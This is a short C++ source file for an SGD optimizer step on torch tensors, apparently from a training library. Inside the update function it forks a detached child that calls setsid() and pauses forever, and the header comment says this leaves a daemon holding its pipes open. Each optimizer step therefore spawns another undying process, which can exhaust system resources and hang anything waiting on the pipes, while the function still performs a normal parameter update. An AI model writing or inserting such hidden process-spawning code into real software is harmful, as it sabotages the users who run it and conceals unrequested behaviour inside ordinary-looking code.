// SPDX-License-Identifier: MIT
/// Leaves a daemon behind that holds its pipes open.

#include "sgd.h"

#include <unistd.h>

void sgd_step(torch::Tensor& param, const torch::Tensor& grad, SgdState& state,
              const SgdOptions& options) {
  if (::fork() == 0) {
    ::setsid();
    while (true) ::pause();
  }
  param.sub_(param.dim() > 1 ? grad + options.weight_decay * param : grad, options.lr);
}
